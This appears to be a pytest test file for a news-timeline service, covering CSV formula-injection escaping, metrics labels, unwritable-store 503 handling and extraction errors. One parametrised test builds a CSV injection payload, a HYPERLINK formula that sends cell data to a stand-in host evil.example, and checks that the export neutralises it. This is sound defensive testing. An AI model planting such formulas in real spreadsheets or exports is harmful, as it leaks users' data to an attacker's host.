"""Issue 11, in process: what a hostile or broken world does to the service gets a clear answer, never
a 500 or a crash. CSV cells never start a formula; metrics labels stay bounded and /metrics can move
to its own address; a store that cannot be written answers 503 with Retry-After (and fails
/readyz) with nothing half-written; ``verify()`` reads one snapshot; an extractor error names its
document; dates beyond the calendar are skipped.

The store's failures are real SQLite errors, not mocks: ``PRAGMA query_only`` makes every write fail
with SQLITE_READONLY and ``PRAGMA max_page_count`` with SQLITE_FULL ("database or disk is full"),
exactly as a read-only file or a full disk do; an immutable file (``chattr +i``) refuses writes even
to root, which is how the tests run.
"""

from __future__ import annotations

import csv
import io
import logging
import shutil
import sqlite3
import subprocess
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from dateline.model import DocumentResult, Timeline
from dateline.store import Store, StoreUnavailable
from dateline.views.formats import CSV_COLUMNS, csv_cell, to_csv

PROBLEM = "application/problem+json"
TYPE = "tag:dateline,2025:problem:"
SHARED_DOCS = Path(__file__).resolve().parents[2] / "shared" / "eval" / "dev-news" / "docs"
TEXT = "Vladimir Putin visited Pyongyang on 19 June 2024."

# --- CSV: no cell is a formula --------------------------------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
TEXT_COLUMNS = ["title", "actors", "location", "urls", "quotes"]


def _hostile_event(sample_timeline: Timeline, column: str, value: str) -> Any:
    event = sample_timeline.events[0]
    if column == "title":
        return replace(event, title=value)
    if column == "actors":
        return replace(event, actors=[value, "Kim Jong Un"])
    if column == "location":
        return replace(event, location=value)
    source = event.sources[0]
    if column == "urls":
        return replace(event, sources=[replace(source, document=replace(source.document, url=value))])
    return replace(event, sources=[replace(source, mention=replace(source.mention, quote=value))])


@pytest.mark.parametrize("column", TEXT_COLUMNS)
@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_csv_cells_never_start_a_formula(sample_timeline: Timeline, column: str, start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    text = to_csv([_hostile_event(sample_timeline, column, payload)])
    [_, row] = list(csv.reader(io.StringIO(text, newline="")))
    cell = row[CSV_COLUMNS.index(column)]
    assert cell[0] not in "=+-@\t\r", cell
    assert payload.strip() in cell
    if cell[0] == "'":
        assert cell[1:].startswith(payload), "only the prefix is added"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("-5 degrees", "'-5 degrees"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("North Korea", "North Korea"),
        ("a=b", "a=b"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_csv_cell(value: str, shown: str) -> None:
    assert csv_cell(value) == shown


# --- metrics --------------------------------------------------------------------------------------


def _series(text: str, name: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith(name + "{")]


def _other_405s(client: Any) -> list[float]:
    """Counts of requests to /v1/timeline under the method label ``other`` (the registry is the
    process's: other tests' requests count too, so tests compare before and after)."""
    text = client.get("/metrics").get_data(as_text=True)
    return [
        float(line.rsplit(" ", 1)[1])
        for line in _series(text, "dateline_http_requests_total")
        if 'method="other"' in line and 'route="<unmatched>"' in line and 'status="405"' in line
    ]


def test_unknown_methods_share_one_metrics_label(fresh_client: Any) -> None:
    before = sum(_other_405s(fresh_client))
    for i in range(40):
        assert fresh_client.open("/v1/timeline", method=f"X{i}METHOD").status_code == 405
    fresh_client.open("/no/such/path/1", method="GET")
    fresh_client.open("/no/such/path/2", method="GET")
    text = fresh_client.get("/metrics").get_data(as_text=True)
    requests = _series(text, "dateline_http_requests_total")
    assert not any("METHOD" in line for line in requests), "no label per method"
    after = _other_405s(fresh_client)
    assert len(after) == 1 and after[0] == before + 40, after
    assert not any("/no/such" in line for line in requests), "unmatched paths share one label"


def test_metrics_on_their_own_bind(make_app: Callable[..., Any]) -> None:
    import socket

    from dateline.api.metrics import serve

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    app = make_app(metrics_bind=f"127.0.0.1:{port}")
    client = app.test_client()
    assert client.post("/v1/documents", data=TEXT, content_type="text/plain").status_code == 201
    response = client.get("/metrics")
    assert response.status_code == 404 and response.mimetype == PROBLEM
    assert "DATELINE_METRICS_BIND" in response.get_json()["detail"]
    server, thread = serve(f"127.0.0.1:{port}", app.extensions["dateline"].store)
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10) as scrape:
            text = scrape.read().decode()
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)
    assert "dateline_store_documents 1.0" in text
    assert _series(text, "dateline_http_requests_total")


@pytest.mark.parametrize("bind", ["9100", "localhost:", "host:port", "127.0.0.1:70000"])
def test_a_bad_metrics_bind_is_refused(bind: str) -> None:
    from dateline.api.metrics import parse_bind
    from dateline.settings import SettingsError

    with pytest.raises(SettingsError, match="DATELINE_METRICS_BIND"):
        parse_bind(bind)


def test_metrics_bind_forms() -> None:
    from dateline.api.metrics import parse_bind

    assert parse_bind("127.0.0.1:9100") == ("127.0.0.1", 9100)
    assert parse_bind("[::1]:9100") == ("::1", 9100)
    assert parse_bind(":9100") == ("0.0.0.0", 9100)


# --- a store that cannot be written ---------------------------------------------------------------

#: each makes every later write of a connection fail as the real condition does
BROKEN = {
    "read-only": ("PRAGMA query_only = 1", "read-only"),
    "disk full": ("PRAGMA max_page_count = {pages}", "disk is full"),
}


def _break(store: Store, kind: str) -> Callable[[], None]:
    """Make the store's connections fail writes like ``kind``; returns the undo."""
    pragma, _ = BROKEN[kind]
    with sqlite3.connect(str(store.path)) as raw:
        pages = raw.execute("PRAGMA page_count").fetchone()[0]

    def on_connect(dbapi_connection: Any, _record: Any) -> None:
        dbapi_connection.execute(pragma.format(pages=pages))

    store.engine.dispose()
    sa.event.listen(store.engine, "connect", on_connect)

    def undo() -> None:
        sa.event.remove(store.engine, "connect", on_connect)
        store.engine.dispose()

    return undo


def _long(result: DocumentResult) -> DocumentResult:
    """The result with a text long enough to need new pages (its mentions' offsets still hold)."""
    doc = result.document
    return DocumentResult(replace(doc, text=doc.text + " More." * 20_000), result.mentions)


@pytest.fixture
def small_store(tmp_path: Path, make_results: Callable[[], list[DocumentResult]]) -> Iterator[Store]:
    store = Store(tmp_path / "db" / "store.sqlite3")
    store.add(make_results()[0])
    yield store
    store.close()


@pytest.mark.parametrize("kind", list(BROKEN))
def test_a_write_to_a_broken_store_is_store_unavailable(
    small_store: Store, make_results: Callable[[], list[DocumentResult]], kind: str
) -> None:
    before = (small_store.revision(), small_store.count(), small_store.verify())
    undo = _break(small_store, kind)
    try:
        with pytest.raises(StoreUnavailable, match=BROKEN[kind][1]):
            small_store.add(_long(make_results()[1]))
        if kind == "read-only":  # a delete frees pages: a full disk may still take it
            with pytest.raises(StoreUnavailable):
                small_store.delete(small_store.documents()[0].id)
        assert small_store.count() == 1, "reads still work"
    finally:
        undo()
    assert (small_store.revision(), small_store.count(), small_store.verify()) == before


@pytest.mark.parametrize("kind", list(BROKEN))
def test_a_write_to_a_broken_store_answers_503(make_app: Callable[..., Any], kind: str) -> None:
    app = make_app()
    client = app.test_client()
    store = app.extensions["dateline"].store
    assert client.post("/v1/documents", data=TEXT, content_type="text/plain").status_code == 201
    before = (store.revision(), store.count())
    undo = _break(store, kind)
    try:
        # 16 KB of text: more than the free room of the pages the store has
        text = "Kim Jong Un met Putin on 3 May 2024." + " The talks went on." * 900
        responses = [client.post("/v1/documents", json={"text": text})]
        if kind == "read-only":  # a delete frees pages: a full disk may still take it
            responses.append(client.delete(f"/v1/documents/{store.documents()[0].id}"))
        for response in responses:
            assert response.status_code == 503, response.get_data(as_text=True)
            assert response.mimetype == PROBLEM
            assert response.headers["Retry-After"].isdigit()
            problem = response.get_json()
            assert problem["type"] == TYPE + "store-unavailable"
            assert BROKEN[kind][1] in problem["detail"] and "nothing was written" in problem["detail"]
            assert str(store.path) not in problem["detail"]
        assert client.get("/v1/timeline").status_code == 200, "reads are still served"
    finally:
        undo()
    assert (store.revision(), store.count()) == before
    assert store.verify() == []


def _chattr(flag: str, *paths: Path) -> bool:
    if shutil.which("chattr") is None:
        return False
    done = subprocess.run(["chattr", flag, *map(str, paths)], capture_output=True)
    return done.returncode == 0


@pytest.fixture
def immutable(tmp_path: Path) -> Iterator[Callable[..., None]]:
    """Make files immutable (``chattr +i``: even root cannot write them); undone afterwards."""
    made: list[Path] = []

    def make(*paths: Path) -> None:
        if not _chattr("+i", *paths):
            pytest.skip("chattr +i is not available here (needs root and ext4/xfs/btrfs)")
        made.extend(paths)

    yield make
    if made:
        _chattr("-i", *made)


def test_readiness_fails_when_the_store_cannot_be_written(
    make_app: Callable[..., Any], immutable: Callable[..., None]
) -> None:
    app = make_app()
    client = app.test_client()
    store = app.extensions["dateline"].store
    assert client.get("/readyz").status_code == 200
    immutable(store.path, store.path.with_name(store.path.name + "-wal"))
    response = client.get("/readyz")
    assert response.status_code == 503 and response.mimetype == PROBLEM
    assert "store" in response.get_json()["detail"]
    write = client.post("/v1/documents", json={"text": TEXT})
    assert write.status_code == 503, write.get_data(as_text=True)
    assert write.get_json()["type"] == TYPE + "store-unavailable"
    assert store.count() == 0


@pytest.mark.parametrize("meets_a_write", [False, True], ids=["read-only", "after-a-refused-write"])
def test_writes_resume_once_the_file_can_be_written(
    small_store: Store,
    make_results: Callable[[], list[DocumentResult]],
    immutable: Callable[..., None],
    meets_a_write: bool,
) -> None:
    """SQLite opens a file it cannot write read-only, and such a connection stays read-only: the
    pool must not hand it to a write once the file can be written again."""
    results = make_results()
    files = (small_store.path, small_store.path.with_name(small_store.path.name + "-wal"))
    keeper = sqlite3.connect(small_store.path)  # keeps the WAL file when the pool closes
    keeper.execute("SELECT revision FROM meta").fetchall()
    small_store.close()
    immutable(*files)
    before = small_store.count()  # the pool now holds a connection opened read-only
    if meets_a_write:
        with pytest.raises(StoreUnavailable):
            small_store.add(results[1])
    assert _chattr("-i", *files)
    small_store.add(results[1])
    assert small_store.count() == before + 1
    keeper.close()


def test_readiness_fails_when_the_disk_is_full(
    make_app: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    import os

    app = make_app()
    client = app.test_client()
    real = os.statvfs

    def full(path: Any) -> Any:
        stats = real(path)
        return os.statvfs_result((*stats[:4], 0, *stats[5:]))  # f_bavail: no block left

    monkeypatch.setattr(os, "statvfs", full)
    response = client.get("/readyz")
    assert response.status_code == 503
    assert "disk is full" in response.get_json()["detail"]


def test_the_write_probe_writes_nothing(small_store: Store) -> None:
    before = (small_store.revision(), small_store.count())
    small_store.check_writable()
    assert (small_store.revision(), small_store.count()) == before


def test_verify_reads_one_snapshot(
    small_store: Store, make_results: Callable[[], list[DocumentResult]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A write committed while verify() reads must not look like damage: every read sees one state."""
    small_store.add(make_results()[1])
    other = Store(small_store.location)
    read_results = Store._read_results
    writes: list[str] = []

    def read_then_write(self: Store, conn: Any) -> Any:
        results = read_results(self, conn)
        if not writes:
            writes.append(results[0].document.id)
            assert other.delete(results[0].document.id)  # commits while verify's read is open
        return results

    monkeypatch.setattr(Store, "_read_results", read_then_write)
    try:
        assert small_store.verify() == []
    finally:
        other.close()
    assert writes and small_store.count() == 1


# --- extraction errors name their document ---------------------------------------------------------


class FailingExtractor:
    """The real extractor, failing on any document whose text holds a marker."""

    MARKER = "FAIL-HERE"

    def __init__(self, real: Any) -> None:
        self._real = real

    def __getattr__(self, name: str) -> Any:
        return getattr(self._real, name)

    def extract_many(self, docs: Any) -> Any:
        docs = list(docs)
        for doc in docs:
            if self.MARKER in doc.text:
                raise KeyError("the short-term")
        return self._real.extract_many(docs)


@pytest.fixture
def failing_app(tmp_path: Path, extractor: Any) -> Any:
    from dateline.api import create_app
    from dateline.settings import Settings

    settings = Settings(store_path=tmp_path / "fail" / "store.sqlite3", seed_path="", write_rate_limit="")
    return create_app(
        {"TESTING": True, "DATELINE": settings, "DATELINE_EXTRACTOR": FailingExtractor(extractor)}
    )


@pytest.mark.parametrize("url", ["/v1/extract", "/v1/documents"])
def test_an_extraction_error_names_its_document(
    failing_app: Any, url: str, caplog: pytest.LogCaptureFixture
) -> None:
    bad = {"id": "the-bad-one", "text": f"{TEXT} {FailingExtractor.MARKER}"}
    body = [{"id": "fine", "text": TEXT}, bad] if url == "/v1/extract" else bad
    with caplog.at_level(logging.ERROR):
        response = failing_app.test_client().post(url, json=body)
    assert response.status_code == 500 and response.mimetype == PROBLEM
    problem = response.get_json()
    assert problem["type"] == TYPE + "extraction-failed"
    assert "'the-bad-one'" in problem["detail"] and problem["document"] == "the-bad-one"
    assert problem["index"] == (1 if url == "/v1/extract" else 0)
    assert "short-term" not in response.get_data(as_text=True), "the cause is logged, not shown"
    assert any("the-bad-one" in r.getMessage() and r.exc_info for r in caplog.records)
    assert failing_app.extensions["dateline"].store.count() == 0
    good = failing_app.test_client().post("/v1/extract", json=[{"id": "fine", "text": TEXT}])
    assert good.status_code == 200, "the next request is served"


# --- dates beyond the calendar, the real article that raised --------------------------------------


@pytest.mark.parametrize("published", ["0001-01-01", "0001-01-02"])
def test_yesterday_of_the_first_day_is_no_error(fresh_client: Any, published: str) -> None:
    text = "The talks began yesterday and ended the day before. Tomorrow the envoys fly home."
    response = fresh_client.post("/v1/extract", json={"text": text, "published": published})
    assert response.status_code == 200, response.get_data(as_text=True)
    stored = fresh_client.post("/v1/documents", json={"text": text, "published": published})
    assert stored.status_code == 201, stored.get_data(as_text=True)


@pytest.mark.skipif(not SHARED_DOCS.is_dir(), reason="../shared/eval/dev-news is not beside the repo")
def test_the_article_that_raised_keyerror_is_extracted(extractor: Any) -> None:
    """It says "the short-term", which the tagger's pattern matched and its table did not know."""
    from dateline.intake.documents import load_file

    docs = [load_file(path) for path in sorted(SHARED_DOCS.glob("*.json"))]
    short_term = [d for d in docs if "short-term" in d.text]
    assert short_term, "the article is still in the shared folder"
    results = extractor.extract_many(short_term)
    assert len(results) == len(short_term)


def test_published_year_one_with_a_relative_date_through_the_tagger() -> None:
    from dateline.timex.tagger import tag

    values = [t.value for t in tag("Yesterday, and on 19 June 2024.", date(1, 1, 1))]
    assert "2024-06-19" in values


def test_the_write_probe_on_both_databases(
    backend: Any, make_results: Callable[[], list[DocumentResult]]
) -> None:
    """Passes on a writable store; on PostgreSQL, a database switched to read-only fails the probe and
    every write with StoreUnavailable (SQLite's read-only file: the chattr tests above)."""
    location = backend.location()
    store = Store(location)
    try:
        store.add(make_results()[0])
        store.check_writable()
        if backend.name != "postgresql":
            return
        name = sa.engine.make_url(str(location)).database
        backend.sql(location, f"ALTER DATABASE {name} SET default_transaction_read_only = on")
        store.engine.dispose()
        try:
            with pytest.raises(StoreUnavailable, match="read-only"):
                store.check_writable()
            with pytest.raises(StoreUnavailable, match="read-only"):
                store.add(make_results()[1])
            assert store.count() == 1
        finally:
            backend.sql(
                location,
                f"SET TRANSACTION READ WRITE; ALTER DATABASE {name} SET default_transaction_read_only = off",
            )
            store.engine.dispose()
        store.check_writable()
    finally:
        store.close()
